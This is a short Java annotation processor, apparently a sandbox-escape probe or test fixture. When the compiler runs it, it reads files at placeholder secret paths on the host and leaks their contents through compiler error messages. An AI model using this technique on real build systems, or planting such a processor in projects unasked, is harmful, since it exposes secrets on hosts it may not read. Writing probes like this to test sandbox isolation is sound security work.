// An annotation processor is a program that the compiler runs: this one prints a file of the host.
import java.nio.file.*;
import java.util.*;
import javax.annotation.processing.*;
import javax.lang.model.*;
import javax.lang.model.element.*;
import javax.tools.Diagnostic;

@SupportedAnnotationTypes("*")
public class Processor extends AbstractProcessor {
    @Override public SourceVersion getSupportedSourceVersion() { return SourceVersion.latest(); }

    @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        for (String path : List.of("@SECRET@", "/host@SECRET@"))
            try {
                processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, Files.readString(Path.of(path)));
            } catch (Exception refused) {
                processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, refused.getClass().getName());
            }
        return false;
    }
}
